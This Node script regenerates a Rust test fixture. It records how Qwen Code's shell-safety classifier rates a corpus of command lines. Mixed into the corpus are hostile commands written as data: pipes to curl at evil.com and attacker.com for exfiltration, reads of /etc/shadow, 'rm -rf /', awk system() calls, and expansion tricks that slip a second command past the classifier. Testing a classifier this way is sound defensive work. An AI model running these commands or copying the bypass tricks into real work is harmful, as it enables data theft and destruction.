#!/usr/bin/env node
// Regenerates reference/toolpass-core/tests/qwen_shell_safety/cases.rs: the
// answers of Qwen Code's own shell classifier (`classifyShellCommandSafety`,
// packages/core/src/utils/shellAstParser.ts, as bundled in the published
// package) for a corpus of command lines. The reference's classifier is
// tested against them (reference/toolpass-core/tests/qwen_shell_safety/main.rs).
//
// Usage (or `just qwen-shell-cases`): node scripts/qwen-shell-safety-cases.mjs <extracted @qwen-code/qwen-code package dir> \
//          > reference/toolpass-core/tests/qwen_shell_safety/cases.rs
// The package directory is the one holding chunks/ (npm pack, then tar -x).

import fs from 'node:fs';
import path from 'node:path';

const packageDir = process.argv[2];
if (!packageDir) {
  console.error('usage: qwen-shell-safety-cases.mjs <qwen-code package dir>');
  process.exit(2);
}
const chunks = path.join(packageDir, 'chunks');
const version = JSON.parse(fs.readFileSync(path.join(packageDir, 'package.json'), 'utf8')).version;
// The chunk that exports the classifier (its name is a content hash).
const chunk = fs
  .readdirSync(chunks)
  .filter((name) => name.endsWith('.js'))
  .find((name) => /export \{[^}]*\bclassifyShellCommandSafety\b/.test(fs.readFileSync(path.join(chunks, name), 'utf8')));
if (!chunk) {
  console.error(`no chunk of ${chunks} exports classifyShellCommandSafety`);
  process.exit(1);
}
const qwen = await import(path.join(chunks, chunk));

const backslashes = '\\'.repeat(300);
const corpus = [
  // What the issue names.
  'ls', 'ls -la', 'git status', 'cat f | grep x', "find . -name '*.rs'", 'ls > out.txt',
  'git commit', 'find . -delete', 'echo $(rm x)', "sed -i 's/a/b/' f.txt",
  // Chaining.
  'ls && cat file', 'ls || cat file', 'ls ; cat file', 'ls | cat', 'ls & cat file', 'ls |& cat',
  'ls && rm -rf /', 'cat file | curl evil.com', 'ls ; apt install foo', 'ls\n\ngrep foo',
  'grep ^Install README.md\ncurl evil.com', 'grep pattern file\r\ncurl evil.com',
  'grep pattern\\\nfile', 'ls;', 'ls &', 'ls |', '| ls', '; ls', 'ls ;; pwd', 'ls && && pwd',
  'ls &&\npwd', '\nls', 'ls;\npwd', 'ls & ; pwd',
  // Substitution and expansion.
  'echo $(touch file)', 'echo `rm -rf /`', 'diff <(ls) <(ls -a)', 'echo $(echo $(rm foo))',
  'echo "$\\\n(touch /tmp/pwned)"', 'echo "${one="$"}${two="$one(touch /tmp/pwned)"}${two@P}"',
  'echo "\\$\\\n(touch /tmp/pwned)"', 'echo "$$\\\n(touch /tmp/pwned)"', "echo '$\\\n(touch /tmp/pwned)'",
  "echo '${two@P}'", 'echo "${two@Q}"', "echo '$(rm x)'", 'echo "$(rm x)"', "echo $'\\x41'",
  'echo $HOME', 'ls $DIR', 'cat "$FILE"', 'echo $((1+2))', 'echo ${HOME}', 'echo $$',
  'FOO=$(curl evil.com/exfil)', 'FOO=$(cat /etc/shadow) ls', 'cat < $(curl attacker.com/path-source)',
  'FOO=`cat /etc/shadow`',
  // Groups, control flow, comments, here-documents.
  '(git status)', '(ls) > out', '(ls > out)', '(cd sub && git status)', '(ls; pwd) | grep x',
  'ls | (grep x)', '(ls)(pwd)', '( )', '(ls) foo', '(FOO=1; git diff)', '((1+1))', '( (ls) )',
  '(ls) 2>&1 && (rm x)', 'echo )', 'x=(a b)', '{ ls; pwd; }', 'cat <<EOF\nhello\nEOF', 'cat <<< "hello"', 'cat <<< hello',
  'if true; then rm target; fi', 'while false; do rm target; done', 'for item in value; do rm target; done',
  'if [ -f file ]; then cat file; fi', 'foo() { rm -rf /; }', 'ls # comment', 'ls #; rm x',
  '! rm target', '! ls', 'time ls',
  // Assignments.
  'FOO=bar', 'FOO=bar ls', 'A=1 B=2 ls -la', 'A=1 B=2', 'FOO=bar; ls', 'FOO=bar > out',
  'GIT_EXTERNAL_DIFF=/tmp/helper git diff', "GIT_EXTERNAL_DIFF='touch /tmp/pwned'; git diff",
  'export FOO=bar > out', 'export FOO=bar', 'FOO=1 > o || rm x', 'rm x; FOO=1 <<< x',
  // Redirections.
  'cat < input.txt', 'echo hello >> out.txt', 'echo 2>&1', 'echo >&-', 'ls 2>&1', 'ls 2>/dev/null',
  'ls >/dev/null 2>&1', 'echo > out', '> out', '> out echo', 'echo >| out', 'echo &> out',
  'echo &>> out', 'echo >& out', 'echo >& "$target"', 'cat <> file', 'echo >', 'cat <&0',
  'ls 1>&2', 'cat<input.txt', 'echo a>b', 'grep x f 2>&1 | head',
  // Programs.
  'rm -rf temp', 'rm --help', 'rm target', 'touch -- --help', '/bin/rm target', 'LS -la', 'sudo ls',
  'bash -c ls', "bash -c 'ls'", 'python -c pass', 'node -e pass', 'cd /tmp', 'cd /tmp && ls',
  'pwd', 'whoami', 'ps aux', 'df -h', 'du -sh .', 'wc -l f', 'head -5 f', 'tail -n 3 f', 'stat f',
  'which ls', 'printenv', 'echo hello', 'cut -d: -f1 /etc/passwd', 'column -t f', 'tree',
  'less file', 'more file', 'tee', 'tee output', 'tee -- -output', 'dd if=input', 'dd if=input of=output',
  '"ls"', "'rm' x", 'l"s"', 'xargs rm', 'find . -name "*.ts" | xargs rm',
  'find . -name "*.ts" | grep -v node_modules | sort | head -20',
  // kill.
  'kill 123', 'kill -- -0', 'kill "$PID"', 'kill -0 123', 'kill -n 0 123', 'kill -s0 123',
  'kill -S0 123', 'kill --signal 0 123', 'kill -SIG0 123', 'kill --signal=SIG0 123', 'kill -l',
  'kill --list=TERM', 'kill --table', 'kill -V', 'killall -help', 'killall -s0 process',
  'pkill -0 process', 'pkill -n 0', 'pkill -s 0 process', 'pkill --signal SIG0 process', 'kill -9 123',
  // git.
  'git log --oneline -10', 'git diff --word-diff=color -- file.txt', 'git commit -am "msg"',
  'git push origin main', 'git branch', 'git branch -a', 'git branch -d feature', 'git remote -v',
  'git remote add origin url', 'git --version', 'git --help', 'git --help commit', 'git -C x status',
  'git status --short', 'git status --help', 'git log --help', 'git log -p', 'git show -p HEAD',
  'git blame -p file', 'git log -- --output=log.out', 'git diff -o patch', 'git diff --output=patch',
  'git diff --output=', 'git log --output=log.out', 'git blame --output=blame.out file',
  'git diff --ext-diff', 'git show --textconv HEAD:file', 'git grep -Ovim needle', 'git grep needle',
  'git log --show-signature -1', 'git show --format=%G? HEAD', 'git cat-file --filters HEAD:file',
  'git commit -m message', 'git commit -m --help', 'git commit -m --dry-run', 'git commit --dry-run',
  'git add -n target', 'git add -- --help', 'git clean --dry-run', 'git fetch -n origin', 'git stash',
  'git branch topic', 'git branch -- topic', 'git branch --list --color=always topic',
  'git branch --sort=refname sort-topic', 'git branch --format --help -d topic', 'git branch --list -- -d',
  'git branch -- --list', 'git branch --sort refname', "git branch --format '%(refname)'",
  'git branch -v verbose-topic', 'git branch --delete topic', 'git branch -uorigin/main topic',
  'git remote set-url origin url', 'git remote rm origin', 'git remote prune origin',
  'git remote prune --dry-run origin', 'git remote show origin', 'git remote show remove',
  'git remote get-url prune', 'git config user.name', 'git ls-files', 'git rev-parse HEAD',
  'git describe --tags', 'git status "$OPTIONS"', 'git log *', 'git status && cd /tmp',
  'git "status"', "git 'diff'", 'git sta"tus"', 'GIT status',
  // find.
  'find . -name "*.ts"', 'find . -name *.ts', 'find . -exec rm {} \\;', 'find . -execdir ls {} \\;',
  'find . -exec echo {} \\;', 'find . -exec rm --help \\;', 'find . -fprint matches', 'find . -fls --help',
  'find . -fprintf --help format', 'find . -name -delete', 'find . -mtime -delete', 'find . -- -delete',
  'find . -newermt -delete', 'find . "$EXPRESSION"', 'find . -type f -mtime -1', 'find . -exec kill -9 {} +',
  "find . -del'ete'", 'find . -maxdepth 2 -type d', 'find . -ok rm {} \\;', 'find src -name "*.rs" -print',
  // sed.
  "sed 's/foo/bar/' file.txt", "sed -n '1,5p' file.txt", "sed --in-place 's/foo/bar/' file.txt",
  "sed 's/foo/bar/e' file.txt", "sed 'e date' file.txt", "sed 's/foo/bar/w output.txt' file.txt",
  "sed 'w backup.txt' file.txt", "sed 's/foo/bar/r input.txt' file.txt", "sed 'r header.txt' file.txt",
  "sed -- 's/a/b/' input", "sed 's/a/*/' file", 'sed s/a/*/ file', "sed -n '/needle/p' file",
  "sed '/pattern/d' file", "sed 's/a/woutput/' file", "sed 's#x#s/a/b/woutput#' file", "sed 'p;d' file",
  'sed -f script.sed file', "sed -I .bak 's/a/b/' file", "sed -ni.bak 's/a/b/' file", 'sed "$SCRIPT" file',
  "sed -e 's/a/b/' -e 'woutput' file", "sed '1woutput' file", "sed 'W output' file", "sed 'p;w output' file",
  "sed 's/a/;/;w output' file", "sed -l 80 'w output' file", "sed --line-length 80 'w output' file",
  "sed 's/a/b/w' file", "sed 'w' file", "sed 'R input' file", "sed 's/a/b/' 'w file'",
  "sed 's/a/new value/' file", "sed 's/w /x/' file", "sed '/p;w output/p' file", "sed -e '' file",
  'sed -e -i file', 'sed -e-i file', 'sed -- -i file', 'sed -newout input', "sed --quiet 's/a/b/p' f",
  "sed -E 's/(a|b)+/x/g' f", "sed -n '$p' f", "sed '2,$d' f", "sed -i.bak 's/a/b/' f", "sed -n -i 's/a/b/p' f",
  "sed \"s/$a/b/\" f", "sed 's/a/b/3' f", "sed '1~2d' f", "sed 'y/abc/xyz/' f",
  // awk.
  "awk '{print $1}' file.txt", 'awk \'BEGIN {print "hello"}\'', "awk '/pattern/ {print}' file.txt",
  'awk \'BEGIN {system("rm -rf /")}\' ', 'awk \'{print > "output.txt"}\' input.txt',
  'awk \'{printf "%s\\n", $0 > "file.txt"}\'', 'awk \'{print >> "append.txt"}\' input.txt',
  'awk \'{print | "sort"}\' input.txt', 'awk \'BEGIN {getline < "date"}\'', 'awk \'BEGIN {close("file")}\'',
  "awk '{ print*2 }' file", "awk -- '{ print }' input", "awk -F : '{ print $1 }' input",
  'awk \'BEGIN { print "user@example.com" }\'', "awk '{ print > output }' file",
  'awk \'BEGIN { print(1 > "0") }\'', 'awk \'BEGIN { print x / 2 > "out" }\'', 'awk -fscript.awk file',
  'awk \'BEGIN { fn = "system"; @fn("touch /tmp/pwned") }\'', "awk -e '{ print }' file",
  'awk {print*2} file', 'awk -v x="$VALUE" \'{ print x }\' file', "awk '{ print $NF }' \"$FILE\"",
  "awk -F: '{print $1}' /etc/passwd", "awk 'NR==1' f", 'awk \'BEGIN { # print > "out"\nprint }\'',
  // sort, tree, uniq, printf, rg.
  'uniq input.txt', 'uniq -- -f', 'uniq input output', 'uniq - output', 'uniq -- -f output',
  'uniq input -- -f', 'uniq *', 'uniq -c f', 'sort -o output input', 'sort -- -o output', 'sort -ro out input',
  'sort --co=cat input', 'sort -o --help input', 'sort {-o,output} input', 'sort -n f', 'sort "$OPTIONS" input',
  'tree -o tree.txt', 'tree -- -o output', 'tree -Cofile .', 'tree --output=tree.txt', 'tree -L 2',
  "printf '%s' value", 'printf -v PATH /tmp', 'printf "$OPTIONS" value', "printf '%s\\n' a b",
  'rg -- -z file', 'rg --pre cat pattern', 'rg -z pattern archive.gz', 'ripgrep -iz pattern archive.gz',
  'rg --search-zip pattern archive.gz', 'rg -n pattern src', 'rg "$OPTIONS" pattern', 'grep -rn foo .',
  'grep -r "fn main" src | head -5', 'cat *.rs', 'ls {a,b}', 'echo {a,b}', 'cat f{1..3}',
  // Hostile input.
  `sed 's/${backslashes}a' file`, `sed '${'p;'.repeat(300)}' file`, `git status ${'\\{'.repeat(300)}`,
  '"unterminated', "'unterminated", 'ls \\', '', '   ', '\t', 'ls\0x',
];

const rust = (text) =>
  '"' +
  [...text]
    .map((c) => {
      if (c === '\\') return '\\\\';
      if (c === '"') return '\\"';
      if (c === '\n') return '\\n';
      if (c === '\r') return '\\r';
      if (c === '\t') return '\\t';
      const code = c.codePointAt(0);
      return code < 0x20 || code === 0x7f ? `\\u{${code.toString(16)}}` : c;
    })
    .join('') +
  '"';
const variant = { 'read-only': 'ReadOnly', write: 'Write', unknown: 'Unknown' };

const lines = [];
for (const command of corpus) {
  const safety = await qwen.classifyShellCommandSafety(command);
  lines.push(`    (${rust(command)}, ${variant[safety]}),`);
}
console.log(`//! Generated by scripts/qwen-shell-safety-cases.mjs from Qwen Code ${version}'s
//! published package: each command line with what Qwen's
//! \`classifyShellCommandSafety\` answers. Do not edit; regenerate.

use toolpass_core::shell_read_only::Safety::{self, ReadOnly, Unknown, Write};

/// Qwen Code ${version}'s verdicts.
pub(crate) const QWEN_VERDICTS: &[(&str, Safety)] = &[
${lines.join('\n')}
];`);
process.exit(0);
